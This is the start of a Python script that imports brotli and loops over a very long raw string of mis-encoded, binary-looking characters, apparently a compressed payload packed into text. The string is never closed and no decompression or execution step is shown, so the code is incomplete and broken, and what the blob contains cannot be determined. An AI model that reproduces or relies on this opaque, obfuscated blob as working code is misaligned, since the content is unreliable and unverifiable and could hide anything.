import brotli
n=a=0;b=1
for c in r'''"5)iIv?F/P2\LX!/%Ϯ&EM]k(CkTgePε̛_UlΛFA/t%ڟnSY0-MY$DAF#+6I:@StPzz}Ђڐ
S:O4N	5gz\NȻ8KUQ{&sq|loS2֝	ǘFL>.oćOاc4hܞJ'"a]l Zי>AJ!ԌuuI3ġ\BFij9:\hn{FzKThl2ʝƻ <7@ersm@hDn1:NS|6Ϩ*ҵg~~ՠ5Sф-ӷsvp-I@vTA*'N{~+r8N'[em'nT	|^ˡw>VϚhcY5=ܛ̱4,UU2.`Dq^G)C
PaY'Ȱdؕ"mmX )Kh`m), 2&p.ۿ)b˃_u.*dKyܾ,3&7]["4u9uZ4aFY#X
!!4];+pȮeAt4%5rD]a+(>d~.%E();ǈ6	2dlf|WR7Lfwqq?&mC;FlqId	]{1AjXʶ-4![Z"_wH Tؤoo{D0sՁ@[7Ʃumr]XeVe{sºnʣ7ƀg
mA %}HIMrڕh)~ob^u&6	G|ƵikNŸ=,x!>`&ތr);2խة$g6!os*Ҥ8\!
gj-:STodB7<ٔlQEoϋ8ٟ~j0zk٠eJd5f=gG?U֦0D˧K{Ѽض5RYFDxlFoi7ߠoՓҚ `RG|07˚3T	 ݪ&-Z}a6*A:ay=)dږVwЗ5Zխ2U.ϖ-NO|Պ׫ϩ[q?ϱ

<bɈޡodҥ uΫE9gakgdf	N'gOi31"cr{.aBޢGh\mRΗ35gnp
6ۖ	FC/2HYnzY7D&_yͻEAL/g7 M#չa.I|}'޾נ1HxH+E4F%q5t]-4,|0|?S٩Ӵշ![bv5d*=].p
2Ҿ*J?okJUOu4ҫt(tM])-9W؇WKg4zWX^{n-FI+]q `fB/c,G(=,HQHMnԤΐ-ޔRF(1s!%͘8ز@AS0#TI?GFC_kڈhذ}j[P*#Y<ܤK:V6h{0QڶƹNuLL=\:hC	̚a,7Ď^Q~e1"fbh\+ɇY|`ap̊kydH6*K?Œ>rȭ:ySKoZ`M|c22`i7'h+x0%v4$QBR^	)&9cqh.ka"7p&Ӈ^؞Ϻltj
]˸Jָ0qQ]H"z2T
W}?!,%1g49k[z	NM h`>4<>aShm[Ȟ,)d$=~Eq)4lL(
l0q"hUO^WwH{IOyjx2em܁:Ph 9<lMјB`#ԏ'Ƹ_DK8z bƝrt{U++KNx{{IMvi+&S%7`-AyDf.ڜKF_x?˒ǥ'n	cMV_rڛҳdϘkC94U,1(j	3yd~˘< ^!+@(֝ɖ-y"B.VP%׷S/xatrspZӒ;:j~
y=ڷHF*y'HB$auebgZq%yz;8zj9_0wOJQ+)$c/ǊއM%0mVFc*p&b\mx2`yN|%ٮxAsLc@K&/[Fˎr6JV"&_NHԧ9~6bġq;YWdeWJ,A߻&o̾k%7ԮlÑeBEoɀW^+a~ԎyS,̩Cߝ(gmH0~ƣrؚrvu%,jALvuHܳjf'E؈FG}t7|DKM9+=zvmC?QzZm,bUA6j݁N@FÜ%\~*KA<?KѧNţMS8=MT
f~1G*̃h
dU	Oway<tZպҷtu8jl@Ս10Y/ӖCω<(jk/Z=ӌ)E߆m+g(Ҕ{!SUQ`[0֐]li`c^ʪPkLZ\#]
ьzL"֕IY'r<:͸ s{B\rE?e|NW"VQ,]gċ"n٬hd}ƚJPe><~?^b7-5tw׈6|AюTT;=i9aѻPS]Jd56!xLlAO+׸{,?xkuմ-z7LȾqarzuie!vx$FK@JٍMt"j	.y܉|nxD_ptm9>`kbF gNԂc|F&1|x1;3lNJHƙ+:4ZKd-6dM7n{'6{"ұa$QyėL	AM|s۴\SvPKo/̺&AZ e8ݟIukNF@/b?m[gwϥ0,}:V2c.Gm͎_193N#ī٠K:O$6)V#1oWFѳފu[I88c8Cx'AP"E@G}/ڄWs'("77րfDHkzDύj:ߌ9zu,*xwD:`e,fԝ	4v*1n7Jˮ=[&*p,LiH?~$׿@џ9د1qhd؉,}E/a%W XUqWo#n#}rv&1
'yȅctLH(\p~3=Z%kqucŜ"l}phAtz˞TD6׬c;WS¦gZ4ѽ[?s`ڊk<{dj)_\HE8̛?y!Ź`-Цj&imb&Ւx>2Т_v%ŐCɐ=_NKUz-FffӼΠǑmÏNEwҤ"ƶi=|QϿZ/Uu73xMW7DGbAv<aSH}Ɓ~ηTZVlv`n3,-^ǍBf/6.(ì1 ϳg:, ic*Zafaʞ,	R	ɕ[;z&Fא	A\pNފHi˄Ya)ʡ	nhcZp@ykYEK|	Qz0>eKG3gf^ab
#>X+BXdF+"Y)<M~^@'8(>̜h>d[Ϭ!"5ۣJpȊF+[/PjGICv;*KNuEP:e4;'V^s&:gVGhc&R>:Vߦ
Q@wt8)PTIUɣ	 zr(Y8}G"K}eArajf!6U2o!H"
84*		rgcT[8n2~Kso ކj:]*owO\ưBk>v	H`ȐO2 K	t;g<=t)M(oP]D~|A=yx~#Gf8gR`_'Hӟُ(İg42</;xyrԼ6:>?M%U#nO\C[f)

@è,Y Ӷ	?<&_gP+c)WW	NǟF8dPéК+ɿgCQz\¼5G[7oQݮʿަum,GŜ.TtZРeza9CMh0.3zDrŉs?8׊kʡxտO
l|SU*QqIsԦp)Z`SCZ9{vxnNytn|a˖g֛_HD[JrxWbWNx^N9:kaǝmx_u}99µj4ѠEy%$e0LM=UR,:9kՃ~*AD6ߡbbِfM$3'A#4Ӡ%Rxy~)	ˬMDRW~S-k*9<x
L<?<DM.ޱ" JԭaVeR"#6@;O_xŰ,X.2Cp;xG3x[PCd:,E[-՘g>WؐgIZGӻrFGWx:U?'
	|&o'J"SB%ˍMߘrLǷnj{1ݖò:AZŜ֚iOŪk3YLCq=qFy UzTFXū"h1oyۋ8i1*LV܄چJ;xh+.UƉO (0[LYD\I]&7;C{R/0IL&}[עVR5Ӄ͉z@:u{<|Td;!v@LoP.zC?0~? ˊJ{"bз.~P|tCǿsPTbCmݫYE\rw,t%L0Y|ٻq:fj$:p1twqvɵQ?3{ZUY5ڜX̞ǽf"'vpe%#:e["sNd=h˓xGjSq(nt֧ۥCp&?gbnH!߾LBr`iϕzGJYm?ȏ*FYy"M݆[QˠstچE"'v<~kg+b[;JR'0>ܦ{2
x$H.fIt'V(S1l(4OQ_ٮQV\RՎ% L??`Q0%5D1xf0{ejwݨ_\4ixĿ.XƗ
1|Qj/
<Q)ɕĎZ!ʔmg֞^Vg$&kQ1kAZW͚4!̠r`/ Ĝߝx,y4֢ەn
%-rl4qvExZv*ۙ!s8oű\1X"Ć{f.gNИҮ =x-]*uŬdeDrΕ֕yYߺc?HӒSƦUL|2}R;A{Yze%̿ Ԃګۻ~0*{"mg[Ȕj=}eIf9BC+Xl"\ԙ"kFOϚ*~nE=zMy	3ɎnW_Aqkzυb0Cr(KZ$K?^Sb>luިFAP8ekyGgC*\K(/
C`<̯YK-H\)<gƟFoȽ}? >ZbRއGh?`x{sF]D {ƪ3vF(woL#ܛqoM~n&DA̙5{dfޜDz,] (}/܎Δ]U	ʋgҳ?}>MdMW	*oDP# O1||ŋÏ}0^ֳѱtpmD#ƾ$D(Y_Q<&Ĩ8 Cǟ`u$I.xd	%Kә$i'N^@ɚ2*5rԡ~ֶc֕.ТSXCeF-kQteMTs`64oE-W?~/OGٲ98<pÆK*gBQ/	s:L9M6}e|:feө<lnfEAǪڳ͹l\M *wZ9EdTŔdb_ұ{ׂOv'ݖ]y@x(ТzR}G%"d,uтvryt|d܋^c8C=7o)3Oe&Jw::BC,TLbYDxJFļQZwwkR΄#ZG(e&#gݘ`<l=hbM[ۍ3#,>x+Mk'ܗӒHqTq=gn~a؝;WGɋd4V*d?lwМ2@jx{߷f_Ҷ?Bm,18ف|ĂoF+ >.8֚Ȝn^/ilHw?ִA(ѕSҼ=_n]۬DC"O8.krĚG	yj<#mSDЈ$;V}[=D5X:|/ãrܞPrO`p8T-7LZipAQe$¨zaAO
#TQHxϯ42]yдqJH\[|\!(Y#F?Xm|\܋ɷ{vYTr,ߧ"ߟIpжS`X]:eR2$Áw"KG!Eqddk$̢ʤАf7m׼mk75ăZn>ʋ8r5gJ!;y%ɒ+ס9ĲFQ*ؠ@> {Ne,A0iۘX0l/7u1qڟX{G7rgãނ]ޏUTĶ-?6UÊ[WnF$x97rρTk;ǒw*n$^.m_W$(AT'J0XmOɊ%;	QpzǾ}Jъսx,1lDX3Fa7LP7fMq_)3ksrh)8Y"eWP۽ËJ8<r=Ic{_?l
p8zvgy{Hԇ#eωb$UӦywϬh׋C
ԕV]7.;bt;Ã3;\XG5v2kzfnW[YdZ*	Q-ߥCY<pTnbj^xSىEzN#5~q
vq'F`*(]eSlJͮ"c& @1p&SF+'
r? l&uT]]"xPuфun8a`u}jdLx+?!/ךA65':a׾֟Ѯ<>ѧ;ԟ=ś[3m;
zo}uoAB]юi2-F[A|щQ+ϻTz:up=`\VߏtN=L82դUta)#-+)ˊܖ	NِKzԿhg}:קE@߿/?i&}h#2DњX6;PLRe&G>$'%hÎ[D:kX|ȁ> 2zB?ʎ̸TTO,ԙpL)~ӎ2̴PH:DBWNA˪ɄnA![pǠC}2q(.t>̨xS3Y̋RE*	řNW
ݶ/jsd7Qeuy8:Հ[:w]-ԁ+4Fxcb\oL\A}$I?(иåP{F7k!Euا9Fk׬Oo)T5PC7"p[Drծ)E7Oٽ>qϗ/՚/Fr[cST~
FOWк2'mMՄ#:"2HEˊ%
kMܥ<0߽'K u0E=N~w((8	ŸoAվaŵH]Vsc?E5p"Y):JJAQgdH'nSg{ڂWOk#yt97̱lH.QVF)!/m\T$8̠V.Wc;Hà-yKܰ!ҰmqQîczи%Ƅawf];lCGUPFQG5k?ۖb4=4zʘ*mڛeQ1|77G3N6\_b\a>ejdQ"B;Pf*-ɵoyܔbA^lbn<&Hǂ1ʮN$/ؚ$CWJsmpm@ƍՔdpĨ
yۯYWB*ד
-DjQ05Fֱ7M߽+ģ_WI;7ssو
:$r߹n)|أNÓ<Y+(}HJh\`S4я
w3-2AQWb8λX8Xɬ@"$y?kIX*vV~:|Dh͈#ΤwRX݅1T!>F&f4]>̼oX]є hCǑ1;}H#ɹqT߰q#|>ocMY:"7P56':>߭ޞ}^-hȯZΑڳ2]M]oޔ&UW>%{"ѹE|n'^b~+K˥8Ω}3	Τ.*1ו.F$I88L0BO_Pe_
""e6zιNI(DzbιR1YRG~kI$/[%͆	4=6ǵJ>iwlW$`Kͳ}d5\ӛWQy!{ssUՊulv*cvz5,(/Pf?KCY)Դ3DÌPOvYmդ SpdO̧TU"kY-(7d'ِU\{BZuoʿvgz=/E#^*OzSJv3BZFO%1Ye`ZQK~YhGhfrm%XXlR9	^z%߸h&9&fO!LGfQ0o7\КЩUR`uW	ɚ)(-?	HpOқ\>ͽ@""4^ĸ)Re@&(V$+]Ԧ_ȥɛjK!~C-ǵ(˗E/8li)ɶ\dP;OuCcBR@C_?r^>vmzw"\Y͍ԥ5>_yz&ب?_eL#G|ޒ$Ĳ\~#>mENWEߑe_p̃#4%K=0McL[ďO{#oLBfy[ {v|bH	prK]`W'.3?ќ?(Iq/1w'SʿU|x9ctx0cߐ=G@~̭Bdѳj9'3ђqUԯ6*ڏю%WN>|̆rK:* Ռ&FSQڡ0?b<N%t`uBnIr'ӷ@IoVƢ.C݄(%.o>Dɖdc,bٰ Qdѓˌ*|
/vēy9HHE׾W"{'@!6]p)z\e5x`&6 θѠ|U5[ln;̼'kx_	ls6D+Fjlb]2	r`ՙVfxBGz:+;Tܾ^N@M:;3J|\ʮljVu\y0_j0Fad[!DlnD˨b;TvX{|6D73
"%[qNtܮϵqĂQdNfHh
V/E(\%B٤%;I4kҬpM\\X
ӑC}1ԍqǋ{+':]-ږ^X	'D	*y[HZ<VF,6%>{H`<1iZ4sfoEBlv)8#Oglm?T\؊i=v΋gܮ.Rp<,({0P*8&N-ibmԸRa2Bl\g΋V>m |xhJ|D=R!U-Rz>sVA=S##%},ٛ}qZ]7In;t/؍҉OZsѻוG0c:t$`ZɛGIa%2}ـ$'c;q@)ѰuqTāzqU\L7N:wyl_^OnD69JN
7yˈ-Qy,1D/U3&wːt|ۆ1"l].!4n?B>!;Ӑ[`f$gSnu}Fe1.\^urwzE!{UvQ-/]
%NEɌ{yM!YVO3!;-@xLVnmpUN݃Ej6KAt̕aOU9S99bNR
Q_;+|?R23'qu	li(Ub1sH/@kEtǑ:|OleR"e9ݒЌjm(4V(ɀxb^Ng˿}h|)P@oDMttTT&
F(=ki}ܷw.K+IF=	k"܈fX(-zzC"2dYj9%ۑx19֫I!&S^2iqgTRQ95d6(*x;7ف/Jt tޢ!zoQ]@q;mtqG^tsQĖE1Pgd['/ՂmC*C/K^C,618aP1K-~e54(@6=Z ;	VVt LAL+e		~QJ|ɣ1]3aOǓZ
"q Am1)
=,`4SB*À,qnWW>4yɽ"Ո~q[&a2M.яvUm&M1'ҧQȘ
x`=mg'ڐIq4߈c^<KݫAwԣ{w$z/j=-Hǌڛ'[s[L!H:׀0M	ٿm!8%<;ɡ̠!k_`v
@|QOu'̒bxMv:͛ԀO|lS}"q8GlTCeXzR}mˍwK6{x-E7׺tuG3N!#x˳v{(5pu.9%zgIL(vS?ժTHM><aKS?xRQ{o-kf(|moag~h1k}fP4^}_Kr{a\
؆<uWK+JLH\ W::ix*se-PV[~WcOzvn=zdMjh: Gz˜,XWc]stjR0 dDA,r}٣fqL1xKpp˷vp,#> j+$~8CFdqrYNo2G	!-F'Ġ"̞ԉ8ϥG+̝,&pَզvIi#g/#޸'"m͠!@:
OPM*]7J=DϐcZyS$krAa/͑N:ɏ|OYi	BF.P4I
!J	8"D8fbjعScl;y,[wLKd<PbW!ȷO=+[HBv_%ە/Ҿ׻7Z;ǉʩݺV0G*U/WQ9GjjXD?%(q"f8`C_giSRҵ۲\I0@5Sʹa͠Hw3MomQ:6pOuv5syV2W
oګyɞFKCP}>ƅ4Kz;~U
SY)O6Ǻ|eSdtkέhc`ѦJכ;ɪU/o9_-˜a-8V:1gODbmfN/܍T%ڽLV7,,,znGxz&JW*NoASCC4]\;+j|ݹ2_ܤcgf#|:g|=t0[J@3{~8/pY>a}^%~ȣ[͓*&0?}$Z	Z+KtKm6Mw{NQg+d\]%`1z=j'IRHvQҙSӲ)%;bƚvYxFjОB]7~8Cg	H>Rq)۟jƯLyy4q̷ل(o;w[dE&qs2I,/NY۱ޚH;)fGịBΖ_nCM)5'[XI0*|@3ŇάtɣKvG",->Ս$nG:zC/:F(ݞփͳ7@?ͳv:>=T+7.WKq[>-'ް*V9e6SF6;][9y$BGхԈs*Ӓa#3g#ߣL)&D͈<ӣ!}ćG/I/f',#EPljUJމ߾[ F~a?krŐl?vɺׇQL"K[1*x<TPm`[!ȷP8:2׹*v{?7sEt4s!bvəKΔУ5<TZǘMNf܂cCpu P).1h'	q_-t^B;6T6rǰquƂτ	Ȼ7ds}Ƒ\NH@<2݉[af=ݬ?I=qyأ/(dX*G׷^qi.Ӆgb#Afppzz6ے 6apMX(.mv_?0hȲ4ސԧC$V`ȪytHhwvx!	xXmJ1\,!ʢmykC$8![֢XSfݤrWEȒ`/+W<Tw0HϯfxB WgIjRyu]0GI,xX`w,ZhakAU\#y+pplWJNlz<0;\:!ė`t\RN-xхF&b/b!.Ib~'eEߑH4LNf0,Zƿ|M`X&( S2
گ8Be`"ŵbWX1!aVwcmO,~"$yyWGG#Ux;֒uVֱʲ7,Jt9J793BUހAxfV]xߞր{Rɢ,GƁA;#<Tn*K%]{L>
ۢtЫӿa[_'nCsVdg_a	%`Մmol%yE)s"xq<Vd,ITsXa7;BHyߺոMNALcBBn&v>4yբյQ#By}^&]l?~/2߰ 7՞{ֵx GRS<c-yg&]Pf+~`
_m
GE/SJH.%?A!UoJm-߿ Χ\&f,3.5dDkɊ\cê,}Hhm!YX[>Eٴ$Lgt~7dc 4Z{%y#M]}LϪ#7	w_$ӣι%QU~M:fYhݱiK[?*oY
pċ4íћjʱxФi@G6_\YS3Ģx*ZgdYT́Kn5{8}w;6#$iX\eԡd1\P`|BLh^گLe<cj<Y|	0}+PDWշ(%Sb&;G.r|jdy8У9mPpKaL+ҥMcߍFaó;U)5V.*R_8_\3^IŀzDoVF pm'mRK	ɨKn߾[~_>zB6aق**օ>ٔV~zQwC&TM(8%v;\iԸo(o3
|7Պ@("gcvhԓzlK+j7v'l(>j!f:ws֌b1[~?U/ɰ5L**iHoϐf]H$
/_dLILL8~&#6h7wZl(]jO!d
Oy%¤m)8d0ݢQ4IUt_Mѷז?4F\KYӉFUܹ4cqDKd*ڍѺFˡ{8ThLR{:פO2BV+bZ;.:9x-lFjبURӹԤee *nH<(^TU;q)Da}(p"T_AՖ?kv2-x^}͉h,U@|o$+7P%ʴd/n8%X!~,'btC)i̅$T+,я}Z!nC9!1]ecMPD0hPg6ըnĊb+hnp]FR6vMJߐO {\ot]Zsh0?XsIS|۽\!w.d$3tyɔk{X>">%^=	Y9˶]*
ql_;b{رwã9ߚlWwYi##QG܈Ã-ÆǠǿf,"z>	.5%8$սsg9'+oscy6Iò\5<]֎|/Z84̼ڂOu;3N	Uw|pEXMӕF޲5EƽՀ;SM)~a	HfyݮJ:R]!3gʘ&Qij/JRˤXa5hΨׁ"ӛ84Mʨ!\݌؋u%ogόa}yNrimxw:<~*)B°=\0ڮR=#Q><؛R.ǁF,_׍8"]Ç)4A<j`+w8CyMǔB_M2@c[0ȍ7n݊r@8aGwNsjxN΁_G/|n@9)sU:0,;s T0tgTFΰ).AYpғoq@Wϊ!c;lq3*FUۜe~_O,QH]+O{(TơPӤWhO4KΕr(#q8#߹ې)Xܩ5['Gؖa*!^8s(Qm}:(k-řHLJp/(Wfk"@Օ5}S6/	&x!ñ4ض]خPdF*vy:cʯHͷ8v7`]ߺ>lC&vy"°;U!=ʨ%Ɏ_+'K4&W4+ٌƴ3U<h9ۣۋ7ϵ(28&i |ܙ[>'}PvD˶6vJ*0c͵t.V0'KO`Dcۍժʧ/W?zW0n	QceݳL'~Ŋh|)ߡ5ڱ+B0BN,7Q-f٣!|\ż\L6/ޙ/`vMeW;ώgAoc=cl 8Ӄl-`i.Aẁ#N$y%Y'3s ^jϦ+߀X GuksLzۏ,s9s%QE52Vi,to|ؑxȡFh(&{t4:ATL6-ޮ.r0I`q,ń?dK_l}D6h8i9K6at\>IfgJ%r%pƛS]¢H$)oR@dIȒ[ĞC!Q۹ؾ]NgK(H8?Fld 0JPb65-:*pv730jlf@S!Ϯ5IM#	p~Ԁ~ƄO7Jwc$Dk}]5f"HQ×K=Ne;X$/s=ڮH:7d[w~Q۽XQ7Yy`@FI]ɹ2zg1>(*c
]'-{>\db(h;=)mW7$`D;LRH:]sNj<0b dApORrGzF&Bbdx3M_FqctBE]!PypT\V
ݟ||̑t&ߎFS٦dtܘΫ)WDy:``~1t(nOtf!17&Ŝ^QV{=rZao~KYQ82Ǯ>!#9@ӥGA4P$zjmU:ݐo4LYMs;chR-#=9_$Ӏ	AY&Ҳ<6[aٝ<t$cnoͨ*Y&/WֆxYY
Ɔ,F14\?^?&ѡ,,1@ǪXE$@)w6**6sk7=ԫ1Pj;іzk~lKݻJ*ts5eqީpQeq(TC)G=%UaiWQbAxlڔJG"@<{T]:m>a	TqRժӴ}uXԘ]EOk!BY71(	04ĐƓ۬wl(S#H%2y*V"{§l1Hl.nȈeu-^?ZPM<+A5,j[bQ	zQ={$ċ&t,\DU4=)޴vWsfnFsgu*U8#mH,Т2vJUc;fVWy˜oʣzJ-"!X+&V$}R<D.6MV]p/	/
}S>U>~3}-O;UD{\Q4B(py#UINI)0.qqBDaӕ:0)jK&"Hi5?S2q?ZáIɧFWƳ5N}{+#=\K	|Fӧz1~%ڹnRxuy?hĆFhZ1=W=hxlE۴6/Rk,גv
uXq25_`Ac4njǆ__dIl&$D'	7ײۃ]#cy(:n;nawOd#?Bg;@~un]BV%]9/s@`[:^{T++i:pFÓI`kN)@Os]EGơ0Zo]`rv#Ggd&R ۦ(hLE _c}w6ԕ,t^fٿjB!٧ѐ!e)n#bJِPӢz>$ķ)w+6%g|dFվ`/c0{ȃnMl·V"
9`'ߢdn͚8/\{pPmCvvt}4`ٜi%Uy{T+"ap?CEͲ=)H\^2tΔ4z>
MKfCUcxQ'޽/̳VW/5@~RvɪSuy*
I$Q#ҀGr*s!
fSVJф@b)ɉRcl	Hult:_{e|*x3Zx <n7w]E	ذ%ƽ>tN!R>3.&D=A/ɚqQ2ܷ^yv	aZj{i-T9L*:dV{Ds֑PX?A<#v.XZ&o=cv]+1>Y44`҇Ffˣ1YFety&,g'=ԛH8OĲz+y[hL
dKEz-a0.qs!+-s!n-z8įM@Jи4$ OwB7j/e^F4mݫ!gxMo|U؆CaR7pI+]yvbfԭb%7SY2';e!g½ȻŬW":
ynڛP{(R3ݎ#Ö͖USE?ڲx&'JtrqU{Ö*[ױNP΋u#ޖ_S*ۉ;$(͚׉;;R_צnƕȨh MaUOAլʜ{a{ׁ0tߺ?WmTXWUm9v&c'wL{}̓оѮOɤހ~JCO1Ta¨"D'1xBezCZםb+Ϳ?j̱eUhIr>$s%neq9b`u:ydiۨO12*blOqqGV޽SfҔ&E>
[}
(N=¾7ߤs>-,ܨ޴
ū^WjE.eXM)<},ia0)EP1X"ۑɦܙCϒ0ҋ֟zxFzKCʥ9eچyˇΣ@ķ)VD>Ҟ/o܋ŝі;0T2/V1à~Eշ	؜C.<s[OE\EݪW/$Yܜ9*IíiVyBJ3
D4+^<4|~,;qѱ{U~)8a*gCNE̠R|X5A_|8%v?0@tChxޫJx,tOs?k>5§rJo5Ù-D|.0Ӻ&e''=Q.z<e2?&bU]xk;AtT1.y&X׾y198(&'!JL٣_ҞJ_e%yqVC=d|FZxqʘ9b<mťj
-+KGRFBt~>P{U\;6/{n5RTWgZ_<#'JdIZ0@NR.<mOͣėψkbMkV~JmP)&7bO[ԩD 4~,}נwaD1(ɥi'aplJU4A<E[GXeyp/jǔO<p7Q'-hO7kGty՞ Vfh{NþTŶ+;pgհ?ReSZp[!;X8g2&]T:W73lg<gޯ*^~xT9MhZ%_h3T*#ޫx4]SAl\h80bYV~B?~L>{[iiG՛B5ܮ7	<cVג,<gثDۘ}k_E:)+B޳@ 7:o5Qܡ E;BсYBW4+|z.G5ԩ*sgw«*+BNbtn4Aن.=*T980fEs)!TJg6WX{co;Qg0ys$<ZsW8GaLuH	Fyf3׳1sk"ڃ!;BbZZ]˃$yқrTһG*c8sZ*4M^6|
ֶ&	e&|u۵Sm}"Y։.#F"֗iѝT&CXȅuωwƸGx܇	"(t|ps{@r?OpH_Ws\cmRJֹ^qh7!H)f:4RLHSN+#N291X	jԿ%5ICwsǄEOAy/ȏ- eRԹsGF\R)!@"2	Єm4ndػS-i~?q3R<r:R*Q*aŅՓƻl:	\_WV5^33t%gS@0oVjR@wE=aWsiZz_XոGkn~&9WO--5V<ܖO^}=Y JM6L-:z)t8t,SKqeǑQyn'i{2e&~au^=d}NߋWǟFh1VPeZK''z!ߝM=ރi=F$6oM^fay4tDK#3$ߧTZ2G)`oۓEtC:FF^w1NqٞC_uM`Py

=v=qټKMwIէWݣr¯޽xC #/ɂ:?@y_طN\ĂLJ =mHݨKR:ݜvcg3/HAwkJ!WH3EWΑŐΛ35מ:ĊcUYn!qJF"©CAC&l;3MvsML(o?}P	H6Zǝ3;A@\]ԕq5-ɧN3/F"c]RW.qȷCCpkQH6Jѹfs?'\NaJ?c<+\1}$9zplߚbcmg+	D n0W^]ҥ)4o+<XkûN~hb 	ۯ;&De(efՄ0˓'LO$SG%hnV]+l_R<^F&e}YwSx]
$8%injKE:8Z]3"t&{7VV3c̛ƞIa:P'UI#GK@qZ 0oAۇg(ˣ.ַCyܽ`ˠ
{kyzWDkȘ׀&4Zl}߹S|Hփa#\Gu-DHSam`tiPO9Ⱦ͜IZF_:+\~#וʂ`r:	67qDEp5ɾA/XFҒEY.ۂ1RgD٪-33MhOhK-kP_P'yz1ŚvW1Ɏ{Y|;i9nԦڎf/gwop`1Iڵ@YX/MοՌ2	7$Bx_v5<*##GH.xJb1g.,	)I,$-$Qs4
q
BlY+<LtҕJ_<37@;)FRc181MX<xI<?'w&
LlADQ¬q73p;hMKh*{Ep{'1O΃4MosH=G~=3E7ɓy$=-QkQ ؘ7j͇vչ[okg5	dVz@u'HojJ@/q\f_qqb7̇,*oh'XMQsı8,SǍwdĊ})FU.$@?~R.ǛmpϴXU	w{avA]!E5֩OEΕnXۺ1]m2ϧ=Iʓ+ųW7X7~7QFqnˍ'7̛Jfӿ>v6ˆx/!Ũx><EjI~{5y=5"7ׅ!Δ̠qUڛ^*_(H)ί1{ӯg'gỉ֢~_?SӢͪu{Oh.D;0)WIb'؏|1GEzʈ5UG
`#N/֋;sʕRE;"0bʩDɰΑ"c9L֝B'W7=h,$gs1@H+P ֱ|M3ʍYB{X7C:Еvy0;ݨFױǾ:sWPq}A9XbujO}͆dH6Q<1Vʕ4*)\]x
$4lAɁLīs<VP\2*q<I]C\֦@J9Nޅbݔ1&#QآItҟib\<ϹǺHksٻ:$syBkO%$C͂ye<1$ƍNMOƪ2o+/jJJj:_,:ܓQ_ǘ۵%Ӫ?j0ܹ?Lk)3i*(PMocZhoZ;q[:W]D#~hnL	?Hsһi&!9s)sp޷TS$Ҵͨ	{T5aHFڅhw"[ȟqE¨<׋٨OQnDſXzd"w!ǚK9.ayYƼI5eT<]bIc
Y^<f`Pc?q8%{ǉ_ԂllŲev6LK;QaLh-Hn͔X3*&jLʕA\){8gˍĪy/0MEs\2Vus:@!75Ғ@6{jhw$OzÓٳ%ҰUлF3BY6{xop}o;eG`,"B+0˦yJڑ=~SK-QhO!0T)ϷRt\rۛxؿŒ]Q:OmH}=INRt|7ЪA}-F
E)f\F,S@گ ~\VF!5tx~L9rcB%q]]lL՞	!T?4]nN|HT,\[mȗN;X( ND]U_(8Z9]c"{Z;yĀKlB56H
cEltƲ^!ͧBWaZ_Xoy6}SpdA53R_ӓͻ1
s?-6?p+^A/4}T%#-[kۂ8KL,<oQ69BcqDZKGcm۽LغVr"}`+ļeHVNѩ?E>P[2:ZH[i"OIx]}խ8)y.̨%˥آ83"JE"Қڡno ;s!̙jv_ŰM}ua@ܑ`1cƖ5mʩ,8«F@YQ
#R%o@W%eq_(,dyQRvfR	g>lXF;Lʛ;@:0FǸͻUдӎmPaCt؟qRƾ]Kv#)uc׺zƹS]1nwcH.a@ʥA%?ڻd(ɩE<$'xѣ6gjiÛ/>jQj EEҢQK:zr<їBC[}AbP4539ϣptgA[VN=Ӓux#hP]N?hڵ*h(8%A#֌?{]1ٛdX"LA'W]Lu$
nNTekwq̡gyiȬ=bȲ!UhWiu>B/d/oBHƚc2}7T$ʥp*a[rӽ-k[8Q9XI]^mܶsO/RqsJAAΏ0:)B{|b\"ҎǍy8bֲʼę5EA˕u֕6#Kuuf LB
Gm22yNGvt{jj^iCsqoޣĳ
K$brAD/?ҧ-ft05ș0N=}[D"d;
;s·grlW
~PW*vF|<P3#N6ѱJt7wC+<pu! U.VͺHLqy5P˥EhUY`%
;0),(ls4'#bsݑv~a`=JVuKQM{(Cp3# z(5?60\WRGGM7N~2ͣ.?=ZWbxc]!b5 YOü^ȆfXRx(!Ó^f=_Kgۥ)#IPY˧|4iܥ#z(=ʨD^܉P9`Uuŀh\b˅=2p4#2ed9!{]wOe' ON.Ѕe:_)]~X!RPP#F̻#^bJ L5!h_$[1x}?kn)M^SQQj|>{z}ǲ%:oqmyWEW3dnEI2pC͋	M
bQkW<AGnld	oe׬z?{8MXEݢH^S-Ò9C_S(֦dޣ/P(8JU;{3L@x4̣,
$hQhslXǆG=5>ˍ1		
/nL̆^c4P)8܎X/R\X>	w9$(W9="6ˇ(϶5}amVoa]r=ѿZ\FBUW޽%ZC&%Μ`k$w!Zٞ{QUВuʿŒ#RϷN-h@)uô~D0mJ`%gww>4twdZ-!H*p)_vV<]s\׫r`[!BlYlQ,CG%tEF3P6Rc3d,n~{t#yz	w޻sT@:
X4g6՗ʽ1Ws6(Lf:5=0_BF[JLeٝf(~e\OxZMjч%t$Kq"F]p<a=^ۯbn
סcY6r3VFeƝ;k֛iW+i1^k&ԀJ=ۀ0j!1!Z]&n؃gXym۔WvO2yj̭yMm{,4[8+iL[Vt.
UE65ʅNx.C#Ro#b{\FA1Hm_ԎŲL޾kɬE`'>xH ΀/ft]2m}h.	UzQ^eLvh(p<TcVʓ4JIX@ynWQ<m72K,PyH6ݪ\IM,>yاBf]ۄT1Rsu^߃0sAY8fI~ʾĶC4ϮJ
	?Ơ~?'GL*2Z{0o_R@1Υk>/,,ٖwIJ/դ
GgnOм6j{b;Bޓ$X9ߨcK jWefb`L%Ve6r0eU@'Ǫ#asWIÎy*kJF8+V%y(ĥ&~%iՊsg7OigTWnq]r9U6F@ńW͉,VNX=
G}`VȈlGбe%C<`p2(q#Ga&6_%MA(R!Wh$?5,*QdԄ>&_9"ϒi?6eҶY?ՁȐr]B|S7%UF|_eużƺyG]ѿaQuhj@Źl!:GΥ?}`uȚ
 ʗX1|mÆү/r϶gemlvοz4طHu'kt?}9nQ ,[$%BEeRқǘ=92lʳ/Ȑx֜Y~~Œ#۷Hy"(:~\XAÚ/B4,[dr3vlszyƧhnZ­BGQZګ։ܔCؗ-j_4kW+ktNgʣ>3^F`z_2ZĔJǷ$mڀMU\{<>@6͹1\D7 `Ռ(gR-SNycT842G8{=c->JvQs$Z<^4l؟YBKN/V؝h_4ԛ2=̆JH9,K)lZ`{0s0l*эD :Ah,E`|/"޶hJ/b<KĻPӎ]$MD7 +FHͬj
